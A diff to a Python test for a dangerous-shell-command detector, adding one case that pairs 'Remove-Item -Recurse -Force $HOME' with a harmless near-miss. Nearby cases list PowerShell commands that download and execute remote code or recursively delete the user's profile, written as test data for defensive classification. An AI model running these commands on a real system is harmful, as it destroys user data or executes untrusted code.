@@ -251,6 +251,7 @@ def test_reviewed_evasion(dangerous: str, near_miss: str) -> None:
     ("iwr http://x | iex", "iwr http://x -OutFile a.ps1"),
     ("iex (New-Object Net.WebClient).DownloadString('http://x')", "Get-ChildItem C:\\"),
     ("Remove-Item -Path $env:USERPROFILE -Recurse", "Remove-Item C:\\temp\\x -Recurse -Force"),
+    ("Remove-Item -Recurse -Force $HOME", "Remove-Item -Recurse $HOME\\build"),
 ])
 def test_issue_13_evasion(dangerous: str, near_miss: str) -> None:
     assert is_dangerous_shell(dangerous)
